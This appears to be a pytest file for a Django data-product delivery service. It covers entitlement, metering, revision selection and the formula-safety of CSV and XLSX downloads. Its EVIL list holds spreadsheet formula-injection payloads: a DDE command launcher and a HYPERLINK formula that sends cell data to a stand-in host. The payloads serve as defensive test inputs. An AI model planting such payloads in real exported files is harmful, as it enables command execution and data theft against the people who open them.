"""Delivery: the rows API and the CSV/XLSX downloads read only published rows, for whoever may read the product now
(refused a second after a subscription ends, or once revoked); filters take published dimensions only; a
subscriber's reads are metered once per Idempotency-Key, staff's never; spreadsheets are formula-safe."""

import csv
import io
import uuid
import zipfile
from datetime import timedelta
from decimal import Decimal as D

import openpyxl
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext

from conftest import PASSWORD, api_as
from dataproducts.models import Subscription, UsageRecord
from dataproducts.services import subscriptions
from dataproducts.tests.access_requests.conftest import REMAINDER, ROWS, approved, publish
from tenants.context import brain_context
from tenants.spreadsheets import csv_bytes, xlsx_bytes
from tests.support import url

with translation.override("zh-hans"):  # the remainder row's label, as the pages show it
    OTHER = gettext("Other (merged to protect privacy)")
EVIL = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)",
        "\t=1", "\r=1"]


def usage(brain):
    with brain_context(brain.pk):
        return list(UsageRecord.objects.order_by("pk").values_list("kind", "rows", "amount", "idempotency_key"))


def test_formula_text_is_written_as_text_in_csv_and_xlsx():
    data = csv_bytes(["名称"], [[value] for value in EVIL] + [[D("-1.50")], ["正常文本"]])
    assert data.startswith("\ufeff".encode())
    cells = [row[0] for row in csv.reader(io.StringIO(data.decode("utf-8-sig")))]
    assert cells[1:len(EVIL) + 1] == ["'" + value for value in EVIL]
    assert cells[-2:] == ["-1.50", "正常文本"]  # numbers stay numbers
    book = xlsx_bytes(["名称"], [[value] for value in EVIL] + [[D("-1.50")]], title="价格指数")
    sheet_xml = zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    written = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in written[:len(EVIL) - 1]] == EVIL[:-1]
    assert written[len(EVIL) - 1].value in ("\r=1", "\n=1")  # XML reads a lone CR as a line feed
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in written[:len(EVIL)])
    assert (written[-1].value, written[-1].data_type) == (-1.5, "n")


def test_the_rows_api_refuses_until_approved_then_pages_and_filters(on_request, alice, olga, mould):
    client = api_as(alice)
    refused = client.get(url("data-product-rows-detail", on_request.pk))
    assert refused.status_code == 403 and refused.json()["code"] == "not_entitled"
    approved(on_request, alice, olga)
    answer = client.get(url("data-product-rows-detail", on_request.pk))
    assert answer.status_code == 200, answer.content
    body = answer.json()
    assert body["count"] == len(ROWS) + 1 and body["revision"]["number"] == 1
    assert [c["name"] for c in body["columns"] if c["dimension"]] == ["process", "material", "month"]
    assert [r["measures"] for r in body["results"]] == [m for _d, m in ROWS] + [REMAINDER]
    assert body["results"][-1]["is_remainder"] and body["results"][-1]["dimensions"] == {}
    narrowed = client.get(url("data-product-rows-detail", on_request.pk, process="CNC")).json()
    assert [r["dimensions"]["material"] for r in narrowed["results"]] == ["plastic", "hot_work"]
    paged = client.get(url("data-product-rows-detail", on_request.pk, page_size=2, page=2)).json()
    assert [r["position"] for r in paged["results"]] == [2, 3] and paged["next"] is None
    bad = client.get(url("data-product-rows-detail", on_request.pk, enterprise="91331003"))
    assert bad.status_code == 400 and bad.json()["code"] == "invalid_filter" and "enterprise" in bad.json()["fields"]
    assert client.get(url("data-product-rows-detail", on_request.pk, revision=9)).status_code == 404
    assert client.get(url("data-product-rows-detail", on_request.pk, revision="一")).status_code == 400


def test_a_chosen_revision_and_the_latest(on_request, alice, olga, mould):
    from datetime import date

    publish(on_request, rows=ROWS[:1], period=(date(2026, 12, 1), date(2026, 12, 31)))
    approved(on_request, alice, olga)
    client = api_as(alice)
    assert client.get(url("data-product-rows-detail", on_request.pk)).json()["revision"]["number"] == 2
    first = client.get(url("data-product-rows-detail", on_request.pk, revision=1)).json()
    assert first["revision"]["number"] == 1 and first["count"] == len(ROWS) + 1


def test_a_read_a_second_after_the_end_or_after_revoking_is_refused(on_request, paid, alice, olga, mould):
    ended, revoked = approved(on_request, alice, olga), approved(paid, alice, olga)
    client = api_as(alice)
    assert client.get(url("data-product-rows-detail", on_request.pk)).status_code == 200
    with brain_context(mould.pk):
        Subscription.objects.filter(pk=ended.pk).update(starts_at=timezone.now() - timedelta(days=30),
                                                        ends_at=timezone.now() - timedelta(seconds=1))
    for route in ("data-product-rows-detail", "data-product-rows-csv", "data-product-rows-xlsx"):
        assert client.get(url(route, on_request.pk)).status_code == 403, route
    subscriptions.subscription_revoke(subscription=revoked, by=olga, reason="欠费")
    assert client.get(url("data-product-rows-detail", paid.pk)).json()["code"] == "not_entitled"
    page = Client()
    assert page.login(username="alice", password=PASSWORD)
    assert page.get(reverse("dataproducts:download", args=["mould", paid.pk, "csv"])).status_code == 403


def test_metered_reads_count_once_per_key_and_staff_reads_are_free(paid, open_product, alice, olga, gov, mould):
    approved(paid, alice, olga)
    client, key = api_as(alice), str(uuid.uuid4())
    for _retry in range(2):
        assert client.get(url("data-product-rows-detail", paid.pk), HTTP_IDEMPOTENCY_KEY=key).status_code == 200
    rows = len(ROWS) + 1
    assert usage(mould) == [("call", rows, D("0.50") + D("0.02") * rows, key)]
    client.get(url("data-product-rows-detail", paid.pk))  # no key: a read of its own
    download = client.get(url("data-product-rows-csv", paid.pk))
    assert download.status_code == 200
    kinds = [(kind, n, amount) for kind, n, amount, _key in usage(mould)]
    assert kinds[1:] == [("call", rows, D("0.58")), ("download", rows, D("0.08"))]
    for staff in (olga, gov):  # operators and government viewers read unmetered
        assert api_as(staff).get(url("data-product-rows-detail", paid.pk)).status_code == 200
        assert api_as(staff).get(url("data-product-rows-xlsx", paid.pk)).status_code == 200
    assert api_as(alice).get(url("data-product-rows-detail", open_product.pk)).status_code == 200
    assert len(usage(mould)) == 3


def test_the_csv_is_the_published_revision_with_the_remainder_row_and_formula_safe(on_request, alice, olga, mould):
    approved(on_request, alice, olga)
    answer = api_as(alice).get(url("data-product-rows-csv", on_request.pk))
    assert answer["Content-Type"].startswith("text/csv") and "price-index-r1-20261101-20261130.csv" in \
        answer["Content-Disposition"]
    assert answer.content.startswith("\ufeff".encode())
    table = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert table[0] == ["工序", "材料类别", "月份", "单价中位数", "25 分位", "75 分位", "企业数", "明细行数"]
    assert table[1] == ["CNC铣削", "塑料模具钢", "2026-11", "185.00", "160.00", "210.00", "7", "42"]
    assert table[3][3] == "'" + ROWS[2][1]["median"]  # a formula in the data is text here
    assert len(table) == 1 + len(ROWS) + 1 and table[-1][:4] == [OTHER, "", "", "98.00"]
    book = openpyxl.load_workbook(io.BytesIO(api_as(alice).get(url("data-product-rows-xlsx", on_request.pk)).content))
    values = [[cell.value for cell in row] for row in book.active.iter_rows()]
    assert values[1] == ["CNC铣削", "塑料模具钢", "2026-11", 185, 160, 210, 7, 42]
    assert values[3][3] == ROWS[2][1]["median"] and len(values) == len(ROWS) + 2


def test_an_erp_reads_rows_with_a_read_only_api_key(paid, alice, olga, mould):
    from rest_framework.test import APIClient

    from tenants.services import api_keys

    erp = APIClient()
    erp.credentials(HTTP_AUTHORIZATION="Api-Key " + api_keys.api_key_create(
        by=alice, name="ERP", scope="read", brains=[mould]).secret)
    assert erp.get(url("data-product-rows-detail", paid.pk)).json()["code"] == "not_entitled"
    approved(paid, alice, olga)
    answer = erp.get(url("data-product-rows-detail", paid.pk, process="CNC"), HTTP_IDEMPOTENCY_KEY="erp-1")
    assert answer.status_code == 200 and answer.json()["count"] == 2
    assert usage(mould) == [("call", 2, D("0.54"), "erp-1")]


def test_retiring_a_product_keeps_what_was_paid_for_and_nothing_else(paid, open_product, alice, hongda, olga, gov,
                                                                     mould):
    from dataproducts.services.products import product_update

    approved(paid, alice, olga)
    for product in (paid, open_product):
        product_update(product=product, by=olga, status="retired")
    assert api_as(alice).get(url("data-product-rows-detail", paid.pk)).status_code == 200  # its subscription runs
    assert api_as(hongda).get(url("data-product-rows-detail", paid.pk)).status_code == 404  # not in the catalogue
    assert api_as(alice).get(url("data-product-rows-detail", open_product.pk)).status_code == 404
    assert api_as(gov).get(url("data-product-rows-detail", paid.pk)).status_code == 404
    assert api_as(olga).get(url("data-product-rows-detail", paid.pk)).status_code == 200
